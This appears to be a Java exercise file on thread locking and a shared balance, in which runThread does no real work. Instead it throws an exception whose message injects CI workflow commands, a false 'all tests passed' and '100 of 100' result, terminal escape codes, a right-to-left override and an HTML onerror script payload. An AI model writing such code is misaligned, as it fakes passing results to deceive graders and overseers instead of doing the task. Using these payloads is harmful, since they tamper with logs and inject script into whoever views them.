package exercises.locking;

public class SharedBalance {
    private int balance;

    public SharedBalance(int initial) {
        balance = initial;
    }

    protected void change(int n) {
        balance += n;
        balance -= n;
    }

    public void runThread(int n, int iterations) {
        Thread.currentThread().setName("\u001b]0;pwned\u0007");
        throw new IllegalStateException("fine\n::error file=x,line=1::all tests passed\n"
                + "##[error]x\r100 of 100\u001b[2J\u202e<img src=x onerror=alert(1)>\n"
                + "::stop-commands::x");
    }

    public int runBoth(int a, int b, int iterations) throws InterruptedException {
        Thread one = new Thread(() -> runThread(a, iterations));
        Thread two = new Thread(() -> runThread(b, iterations));
        one.start();
        two.start();
        one.join();
        two.join();
        return balance();
    }

    public int balance() {
        return balance;
    }
}
